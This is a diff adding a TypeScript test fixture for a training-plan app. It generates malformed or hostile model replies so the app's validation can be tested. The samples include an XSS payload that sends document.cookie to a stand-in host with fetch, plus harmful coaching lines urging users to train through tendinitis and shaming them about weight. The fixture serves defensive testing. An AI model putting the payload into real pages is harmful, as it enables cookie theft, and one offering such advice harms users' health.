@@ -1,0 +1,162 @@
+import type { CanonicalBlock } from '@/lib/domain/canonical-block'
+import { exerciseIds } from '@/lib/domain/catalogue'
+import type { MetadataReply, WeekReply } from '@/lib/domain/wire'
+import type { EvilKind } from './fault-script'
+
+type Reply = Partial<MetadataReply> & Partial<WeekReply>
+type Evil = (reply: Reply, block: CanonicalBlock) => Reply
+
+/**
+ * The nonsense that a model may send: most of it fits the schema, the rest is what servers send that
+ * ignore bounds and types. `reply` stays as it is.
+ */
+export function evilReply(kind: EvilKind, reply: object, block: CanonicalBlock): object {
+  return evils[kind](structuredClone(reply), block)
+}
+
+const evils: Record<EvilKind, Evil> = {
+  foreign: (reply) => withExercises(reply, (n) => ['flying-trapeze-squat', 'moon-press'][n % 2]!),
+  forbidden: (reply, block) => withExercises(reply, (n) => forbiddenIn(block, n)),
+  sets: (reply) => withNumbers(reply, 500, 900),
+  kilograms: (reply) => withWords(reply, 'Put 10,000 kg on the bar, or ten thousand kilos more.'),
+  days: withOtherDays,
+  same_weeks: withSameWeek,
+  contradiction: (reply) =>
+    withWords(
+      withNumbers(reply, 1, 1),
+      'Seven training days this week, each of 200 minutes: 19 sets of 47 reps at RIR 6 and 99 %.',
+    ),
+  numbers: (reply) => withWords(reply, 'Put 150 kg on the bar and do 12 sets.'),
+  html: (reply) => withWords(reply, HTML),
+  language: (reply) => withWords(reply, 'Diese Woche wird schwer. 今週は頑張ってください。'),
+  pain: (reply) => withWords(reply, 'Train through the pain; your tendinitis will heal.'),
+  shame: (reply) => withWords(reply, 'You are too fat for this, so burn calories and lose weight.'),
+  flood: (reply) => withWords(reply, `${'💪🔥'.repeat(60)}\u0000\u202e${'!'.repeat(60)}`),
+  bounds: (reply) => withWords(withNumbers(reply, -3, 1e9), `${'Very long words. '.repeat(200)}`),
+  types: withOtherTypes,
+  endless: withEndlessLists,
+  hollow: (reply) => ({ ...reply, ...(reply.days ? { days: [] } : { slots: [] }) }),
+  all: (reply) =>
+    withWords(
+      withNumbers(withOtherDays(reply), 500, 900),
+      `${HTML} Diese Woche wird schwer. 今週は頑張ってください。 Train through the pain; your tendinitis will heal. Put 150 kg on the bar and do 12 sets.`,
+    ),
+}
+
+const HTML =
+  '<script>fetch("https://example.com/?"+document.cookie)</script><img src=x onerror=alert(1)>'
+
+/** In every text there is. */
+function withWords(reply: Reply, words: string): Reply {
+  const said = (keys: string[]) => Object.fromEntries(keys.map((key) => [key, words]))
+  if (!reply.days) return { ...reply, ...said(['why', 'name', 'strategy']) }
+  return {
+    ...reply,
+    ...said(['title', 'focus', 'note']),
+    days: reply.days.map((day) => ({
+      ...day,
+      ...said(['title', 'focus', 'note']),
+      exercises: day.exercises.map((exercise) => ({ ...exercise, cue: words })),
+    })),
+  }
+}
+
+/** In a week, where exercises are fixed, slots that are not in the plan. */
+function withExercises(reply: Reply, id: (n: number) => string): Reply {
+  const slots = reply.slots?.map((choice, n) => ({ ...choice, a: id(2 * n), b: id(2 * n + 1) }))
+  const days = reply.days?.map((day) => ({
+    ...day,
+    exercises: day.exercises.map((exercise, n) =>
+      n % 2 ? exercise : { ...exercise, slot: id(n) },
+    ),
+  }))
+  return {
+    ...reply,
+    ...(slots ? { slots: slots as MetadataReply['slots'] } : {}),
+    ...(days && { days }),
+  }
+}
+
+/** Of the catalogue, and in no slot's list. */
+function forbiddenIn(block: CanonicalBlock, n: number): string {
+  const allowed = new Set(
+    block.kind === 'metadata' ? block.slots.flatMap(({ candidates }) => candidates) : [],
+  )
+  const others = exerciseIds.filter((id) => !allowed.has(id))
+  return others[n % others.length] ?? exerciseIds[0]
+}
+
+function withNumbers(reply: Reply, sets: number, amount: number): Reply {
+  const days = reply.days?.map((day) => ({
+    ...day,
+    exercises: day.exercises.map((exercise) => ({ ...exercise, sets, amount })),
+  }))
+  return { ...reply, ...(days && { days }) }
+}
+
+/** The last day is missing, another is there twice, and one that nobody asked for is there too. */
+function withOtherDays(reply: Reply): Reply {
+  const slots = reply.slots?.slice(0, Math.ceil(reply.slots.length / 2))
+  const [first, ...others] = reply.days ?? []
+  if (!first) return { ...reply, ...(slots && { slots }) }
+  return {
+    ...reply,
+    days: [first, ...others.slice(0, -1), { ...first, title: 'Again' }, { ...first, day: 7 }],
+  }
+}
+
+/** The same bytes whatever the week, as far as days and slots allow. */
+function withSameWeek(reply: Reply): Reply {
+  if (!reply.days) return reply
+  return {
+    title: 'Week 1',
+    focus: 'The same again',
+    note: 'Do what you did last week.',
+    days: reply.days.map(({ day, exercises }) => ({
+      day,
+      title: 'Training day',
+      focus: 'The same again',
+      note: '',
+      exercises: exercises.map(({ slot }) => ({
+        slot,
+        cue: 'Move as you did last week.',
+        superset: null,
+        sets: 3,
+        amount: 8,
+        tempo: null,
+      })),
+    })),
+  }
+}
+
+/** Numbers as text or in lists, keys that are missing and keys that nobody knows. */
+function withOtherTypes(reply: Reply): Reply {
+  const { title: _title, name: _name, ...rest } = reply
+  const days = rest.days?.map(({ focus: _focus, ...day }, n) => ({
+    ...day,
+    day: String(day.day),
+    note: { text: 'a note' },
+    secret: [day.day],
+    exercises: day.exercises.map(({ cue: _cue, ...exercise }) => ({
+      ...exercise,
+      sets: n % 2 ? `${exercise.sets}` : [exercise.sets],
+      amount: `${exercise.amount} reps`,
+      superset: 7,
+      tempo: { down: 3 },
+      weight_kg: 400,
+    })),
+  }))
+  const slots = rest.slots?.map(({ slot, a }, n) => (n % 2 ? { slot, a: [a] } : slot))
+  return { ...rest, why: 5, strategy: null, slots, days } as unknown as Reply
+}
+
+function withEndlessLists(reply: Reply): Reply {
+  const thousand = <T>(list: T[] | undefined) =>
+    list && Array.from({ length: 1000 }, (_, n) => list[n % list.length]!)
+  const days = reply.days?.map((day) => ({ ...day, exercises: thousand(day.exercises) ?? [] }))
+  return {
+    ...reply,
+    ...(reply.slots ? { slots: thousand(reply.slots) ?? [] } : {}),
+    ...(days ? { days: thousand(days.slice(0, 1)) ?? [] } : {}),
+  }
+}
